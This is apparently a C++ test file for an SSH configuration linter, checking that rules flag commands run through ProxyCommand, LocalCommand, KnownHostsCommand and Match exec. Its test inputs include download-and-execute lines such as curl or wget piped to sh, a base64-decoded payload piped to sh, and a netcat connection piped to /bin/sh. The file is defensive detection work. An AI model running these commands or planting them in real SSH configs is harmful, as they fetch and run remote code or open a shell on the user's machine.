#include <set>
#include <string>

#include <catch2/catch.hpp>
#include <fmt/format.h>

#include "planner/lint/example.hpp"
#include "tests/support/found_lines.hpp"

namespace sshplan::test {
namespace {

TEST_CASE("output is run by what reads programs, and by nothing else") {
    const auto is_found = [](const std::string& command) {
        const auto found = found_by("SEC042", "Host db\n ProxyCommand " + command + "\n");
        return found == Lines{"SEC042 error " + command};
    };
    CHECK(is_found("curl -s https://a.example | sh"));
    CHECK(is_found("exec wget -qO- https://a.example | tee /tmp/x | sudo bash -s -- %h"));
    CHECK(is_found("echo bmMgJWggJXA= | base64 -d | sh"));
    CHECK(is_found("sh -c 'curl -s https://a.example | python3 -'"));
    CHECK(is_found("eval \"$(curl -s https://a.example)\""));
    CHECK(is_found("sh -c \"$(curl -s https://a.example)\""));
    CHECK(is_found("$(curl -s https://a.example) %h %p"));
    CHECK(is_found("true && (nc a.example 80 | /bin/sh)"));
    CHECK(!is_found("curl -s https://a.example | python3 read.py"));
    CHECK(!is_found("curl -s https://a.example | sh read.sh"));
    CHECK(!is_found("curl -s https://a.example | sh -c 'grep up'"));
    CHECK(!is_found("echo nc | sh"));
    CHECK(!is_found("base64 keys | sh"));
    CHECK(!is_found("nc %h %p"));
    CHECK(!is_found("nc $(curl -s https://a.example/name) %p"));
    CHECK(!is_found("echo 'curl -s https://a.example | sh'"));
}

TEST_CASE("every keyword with a command is looked through for downloads") {
    const auto found = [](const std::string& line) {
        return found_by("SEC042", "Host db\n " + line + "\n").size();
    };
    CHECK(found("LocalCommand curl a.example | sh") == 1);
    CHECK(found("RemoteCommand curl a.example | sh") == 1);
    CHECK(found("KnownHostsCommand /bin/sh -c 'curl a.example|sh'") == 1);
    CHECK(found("ProxyCommand none") == 0);
    CHECK(found_by("SEC042", "Match !exec \"curl a.example|sh\"\n Port 1\n").size() == 1);
}

TEST_CASE("a shared file runs what it names, and sockets run nothing") {
    const auto found = [](const std::string& line, std::string_view profile = "shared-repo") {
        const std::string text = fmt::format("Host db\n {}\n", line);
        return found_in({.text = text, .profile = profile}, {"SEC046"});
    };
    CHECK(found("proxycommand=nc %h %p") == Lines{"SEC046 error nc %h %p"});
    CHECK(found("ProxyCommand nc %h %p", "strict").size() == 1);
    CHECK(found("ProxyCommand nc %h %p", "default").empty());
    CHECK(found("ProxyCommand nc %h %p", "personal").empty());
    CHECK(found("LocalCommand date") == Lines{"SEC046 error date"});
    CHECK(found("PermitLocalCommand YES") == Lines{"SEC046 error YES"});
    CHECK(found("KnownHostsCommand /bin/keys %H").size() == 1);
    CHECK(found("SmartcardDevice /usr/lib/t.so").size() == 1);
    CHECK(found("SecurityKeyProvider ./sk.so").size() == 1);
    CHECK(found("XAuthLocation ./xauth").size() == 1);
    CHECK(found("RemoteCommand date").size() == 1);
    for (const std::string line : {"ProxyCommand NONE",
                                   "PermitLocalCommand no",
                                   "KnownHostsCommand none",
                                   "PKCS11Provider none",
                                   "SecurityKeyProvider internal",
                                   "SecurityKeyProvider $SSH_SK_PROVIDER",
                                   "ProxyJump gw",
                                   "ProxyUseFdpass yes",
                                   "IdentityAgent /run/agent.sock",
                                   "ControlPath ~/.ssh/cm-%C",
                                   "SendEnv LANG"}) {
        CAPTURE(line);
        CHECK(found(line).empty());
    }
}

TEST_CASE("what may run is found below Match and Include, and not where no line is in force") {
    const auto found = [](std::string_view text) {
        return found_in({.text = text, .profile = "shared-repo"}, {"SEC046"});
    };
    CHECK(found("Match host a !exec true\n Port 1\n") == Lines{"SEC046 error true"});
    CHECK(found("Include part\n-- part --\nHost a\n ProxyCommand nc %h %p\n") ==
          Lines{"SEC046 error nc %h %p"});
    CHECK(found("ProxyCommand none\nHost a\n ProxyCommand nc %h %p\n").empty());
}

}  // namespace
}  // namespace sshplan::test
